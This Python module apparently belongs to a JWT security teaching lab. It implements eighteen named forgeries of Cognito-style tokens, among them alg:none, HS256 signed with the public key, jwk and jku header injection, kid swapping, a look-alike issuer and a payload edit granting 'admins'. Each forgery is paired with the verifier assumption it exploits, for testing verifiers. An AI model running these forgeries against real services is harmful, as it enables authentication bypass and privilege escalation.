"""Classic forgeries, each with the belief that it lives on; several can be put together.

Whoever forges has what everybody can have: a token that they got hold of, the issuer's public
keys, keys of their own, and honest tokens that were meant for something else. That is the `Loot`.

    forge(token, "payload-edited", "alg-none", loot=loot).token

The beliefs are those of RFC 8725 and of AWS's list of checks.
https://www.rfc-editor.org/rfc/rfc8725#section-2
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from dataclasses import dataclass, field, replace
from typing import Any, NamedTuple

from cognito_lab.tokens.careless import mac_with_public_key
from cognito_lab.tokens.discovery import jwks_url
from cognito_lab.tokens.key_set import KeySet
from cognito_lab.tokens.keys import SigningKey
from cognito_lab.tokens.segment import decode_segment, encode_segment, parse_object

ADMINS = "admins"
"""The group that a forger would like to be in."""


class CannotForge(ValueError):
    """What the forger lacks, or why this token cannot be forged so."""


@dataclass(frozen=True, slots=True)
class Loot:
    """What a forger has. `jwks` are the issuer's public keys, `own_key` is the forger's.

    `tokens` are honest tokens that were meant for something else, by the forgery that uses them:
    `another-pool`, `another-client`, `another-use`, `expired`, `not-yet-valid`. `published` are
    key sets of other issuers by their address, for everybody to fetch.
    """

    jwks: Mapping[str, Any]
    own_key: SigningKey
    tokens: Mapping[str, str] = field(default_factory=dict)
    published: Mapping[str, Mapping[str, Any]] = field(default_factory=dict)


class Written(NamedTuple):
    """Header and payload of a token, each as an object and as the text that was its JSON."""

    header: Mapping[str, Any]
    header_text: str
    payload: Mapping[str, Any]
    payload_text: str


@dataclass(frozen=True, slots=True)
class Draft:
    """A token while it is forged: header and payload as objects, or as the text of one.

    `written` is how both stood in the token: what is not changed stays as it was, letter by
    letter, or no signature would hold. `payload_text` changes the payload's text; `sign` makes
    the signature over the finished segments, None keeps the one that is there; `finish` has the
    last word on the whole text.
    """

    header: Mapping[str, Any]
    payload: Mapping[str, Any]
    signature: bytes
    written: Written
    payload_text: Callable[[str], str] = str
    sign: Callable[[bytes], bytes] | None = None
    finish: Callable[[str], str] = str

    def seal(self) -> str:
        """The token."""
        header = _text(self.header, self.written.header, self.written.header_text)
        payload = _text(self.payload, self.written.payload, self.written.payload_text)
        segments = (header, self.payload_text(payload))
        signing_input = ".".join(encode_segment(text.encode()) for text in segments)
        signature = self.signature if self.sign is None else self.sign(signing_input.encode())
        return self.finish(f"{signing_input}.{encode_segment(signature)}")


@dataclass(frozen=True, slots=True)
class Forgery:
    """One way to forge. `belief` is what a verifier believes that lets it through.

    `honest` names the token of the loot that it needs, where it is an honest one in the wrong
    place; empty where the forger makes it.
    """

    name: str
    title: str
    belief: str
    act: Callable[[Draft, Loot], Draft]
    honest: str = ""


@dataclass(frozen=True, slots=True)
class ForgedToken:
    """A forged token, by which forgeries it came about, and what the forger published for it.

    `published` are key sets by address, for whoever lets a token say where its key is to be had.
    """

    token: str
    forgeries: tuple[Forgery, ...]
    published: Mapping[str, Mapping[str, Any]]

    @property
    def beliefs(self) -> tuple[str, ...]:
        """What a verifier has to believe to let it through."""
        return tuple(forgery.belief for forgery in self.forgeries)


def forge(
    token: str, *names: str, loot: Loot, edits: Mapping[str, Any] | None = None
) -> ForgedToken:
    """Forge a token in one or several ways, one after the other.

    `names` are of `FORGERIES`; `edits` are the claims that `payload-edited` sets (None takes a
    claim out), else the user becomes one of the group `admins`.
    Raises KeyError for an unknown name, CannotForge where the loot lacks something or `token` is
    none that can be read.
    """
    chosen = tuple(forgery_named(name) for name in names)
    draft = _draft_of(token)
    for forgery in chosen:
        if forgery.act is edit_payload and edits is not None:
            draft = with_claims(draft, edits)
        else:
            draft = forgery.act(draft, loot)
    issuer = draft.payload.get("iss")
    own = {"keys": [loot.own_key.public_jwk()]}
    published = {**loot.published, _JKU: own}
    if "issuer-look-alike" in names and isinstance(issuer, str):
        published[jwks_url(issuer)] = own
    return ForgedToken(draft.seal(), chosen, published)


def forgery_named(name: str) -> Forgery:
    """The forgery of this name. Raises KeyError, naming those there are."""
    if name not in FORGERIES:
        raise KeyError(f"there is no forgery {name!r}; there are {', '.join(FORGERIES)}")
    return FORGERIES[name]


def _draft_of(token: str) -> Draft:
    try:
        header, payload, signature = map(decode_segment, token.split("."))
        written = Written(
            parse_object(header), header.decode(), parse_object(payload), payload.decode()
        )
    except (ValueError, AttributeError, TypeError) as error:
        raise CannotForge(f"the token to forge cannot be read: {error}") from None
    return Draft(written.header, written.payload, signature, written)


def _text(value: Mapping[str, Any], before: Mapping[str, Any], text: str) -> str:
    return text if value is before else _json(value)


def _json(value: Mapping[str, Any]) -> str:
    return json.dumps(value, separators=(",", ":"))


def _after(first: Callable[[str], str], second: Callable[[str], str]) -> Callable[[str], str]:
    return lambda text: second(first(text))


# ---------------------------------------------------------------- what is written


def with_claims(draft: Draft, claims: Mapping[str, Any]) -> Draft:
    """The payload with these claims; None takes one out."""
    merged = {**draft.payload, **claims}
    return replace(draft, payload={k: v for k, v in merged.items() if v is not None})


def edit_payload(draft: Draft, loot: Loot) -> Draft:
    """Another payload under the same signature."""
    groups = draft.payload.get("cognito:groups")
    listed = groups if isinstance(groups, list) else []
    return with_claims(draft, {"cognito:groups": [*listed, ADMINS]})


def _look_alike_issuer(draft: Draft, loot: Loot) -> Draft:
    issuer = draft.payload.get("iss")
    if not isinstance(issuer, str) or not issuer:
        raise CannotForge("the token has no issuer that could be imitated")
    last = "a" if issuer[-1] != "a" else "b"
    return _signed_by_the_forger(with_claims(draft, {"iss": issuer[:-1] + last}), loot)


def _duplicate_names(draft: Draft, loot: Loot) -> Draft:
    subject = json.dumps(draft.payload.get("sub", ""))
    return _with_payload_text(draft, lambda text: f'{{"sub":{subject},{text[1:]}')


def _with_payload_text(draft: Draft, change: Callable[[str], str]) -> Draft:
    return replace(draft, payload_text=_after(draft.payload_text, change))


_DEEP = 10_000


def _deeply_nested(draft: Draft, loot: Loot) -> Draft:
    deep = "[" * _DEEP + "]" * _DEEP
    return _with_payload_text(draft, lambda text: f'{text[:-1]},"custom:deep":{deep}}}')


_MEGABYTE = 1_000_000


def _huge(draft: Draft, loot: Loot) -> Draft:
    return with_claims(draft, {"custom:huge": "x" * _MEGABYTE})


# ---------------------------------------------------------------- how it is signed


def _alg_none(draft: Draft, loot: Loot) -> Draft:
    return replace(draft, header={**draft.header, "alg": "none"}, sign=lambda _: b"")


def _hs256_with_public_key(draft: Draft, loot: Loot) -> Draft:
    keys = KeySet.read(loot.jwks).keys
    kid = draft.header.get("kid")
    key = keys.get(kid) if isinstance(kid, str) else None
    public_key = key.public_key if key else None
    if public_key is None:
        raise CannotForge("the issuer publishes no key that the token's kid names")
    return replace(
        draft,
        header={**draft.header, "alg": "HS256"},
        sign=lambda signing_input: mac_with_public_key(public_key, signing_input),
    )


def _signed_by_the_forger(draft: Draft, loot: Loot) -> Draft:
    header = {**draft.header, "alg": "RS256", "kid": loot.own_key.kid}
    return replace(draft, header=header, sign=loot.own_key.signature)


def _key_in_header(draft: Draft, loot: Loot) -> Draft:
    header = {**draft.header, "alg": "RS256", "jwk": loot.own_key.public_jwk()}
    return replace(draft, header=header, sign=loot.own_key.signature)


_JKU = "https://keys.example.com/jwks.json"


def _key_address_in_header(draft: Draft, loot: Loot) -> Draft:
    signed = _signed_by_the_forger(draft, loot)
    return replace(signed, header={**signed.header, "jku": _JKU})


def _signature_stripped(draft: Draft, loot: Loot) -> Draft:
    return replace(draft, sign=lambda _: b"")


# ---------------------------------------------------------------- what becomes of the text

_CUT = 5


def _truncated(draft: Draft, loot: Loot) -> Draft:
    return _finished(draft, lambda token: token[:-_CUT])


def _padded(draft: Draft, loot: Loot) -> Draft:
    return _finished(draft, lambda token: token + "=" * (-len(token.rpartition(".")[2]) % 4 or 4))


def _finished(draft: Draft, change: Callable[[str], str]) -> Draft:
    return replace(draft, finish=_after(draft.finish, change))


# ---------------------------------------------------------------- honest, but meant for another


def _instead(name: str) -> Callable[[Draft, Loot], Draft]:
    def take(draft: Draft, loot: Loot) -> Draft:
        if name not in loot.tokens:
            raise CannotForge(f"the loot has no token {name!r}: get hold of one first")
        return _draft_of(loot.tokens[name])

    return take


_LIST = (
    Forgery(
        "payload-edited",
        "payload edited",
        "What a token says can be read, so it can be trusted.",
        edit_payload,
    ),
    Forgery(
        "alg-none",
        "alg: none",
        "The token's header says how it is to be checked.",
        _alg_none,
    ),
    Forgery(
        "alg-hs256",
        "HS256, signed with the public key",
        "A public key can be known by everybody, so nothing can be signed with it.",
        _hs256_with_public_key,
    ),
    Forgery(
        "another-pool",
        "another pool's token",
        "A token that some user pool has signed is a token of ours.",
        _instead("another-pool"),
        "another-pool",
    ),
    Forgery(
        "another-client",
        "another app client's token",
        "A token of our user pool was given to our app.",
        _instead("another-client"),
        "another-client",
    ),
    Forgery(
        "another-use",
        "access for ID, or ID for access",
        "Both are signed by the same pool about the same user, so either will do.",
        _instead("another-use"),
        "another-use",
    ),
    Forgery(
        "expired",
        "expired",
        "What was once true stays true.",
        _instead("expired"),
        "expired",
    ),
    Forgery(
        "not-yet-valid",
        "not yet valid",
        "A token that is not too old is good.",
        _instead("not-yet-valid"),
        "not-yet-valid",
    ),
    Forgery(
        "kid-of-another-key",
        "kid of another key",
        "A token that is signed, and names its key, is signed by the right one.",
        _signed_by_the_forger,
    ),
    Forgery(
        "jwk-in-header",
        "key in the header (jwk)",
        "The token brings its key along, which is practical.",
        _key_in_header,
    ),
    Forgery(
        "jku-in-header",
        "key's address in the header (jku)",
        "The token knows where its key is published.",
        _key_address_in_header,
    ),
    Forgery("truncated", "cut off", "A few letters more or less do not matter.", _truncated),
    Forgery(
        "padded", "padded", "A token has one spelling, so a list of texts can bar it.", _padded
    ),
    Forgery(
        "duplicate-names",
        "a name that stands twice",
        "Every reader of JSON reads the same.",
        _duplicate_names,
    ),
    Forgery(
        "deeply-nested",
        "10,000 levels deep",
        "Reading a token is harmless.",
        _deeply_nested,
    ),
    Forgery("huge", "one megabyte", "A token is short.", _huge),
    Forgery(
        "signature-stripped",
        "signature taken away",
        "Without a signature there is nothing to check.",
        _signature_stripped,
    ),
    Forgery(
        "issuer-look-alike",
        "issuer one character off",
        "The issuer that a token names is the one that one knows.",
        _look_alike_issuer,
    ),
)

FORGERIES: Mapping[str, Forgery] = {forgery.name: forgery for forgery in _LIST}
"""All forgeries by name, in the order in which chapter 3 meets them."""
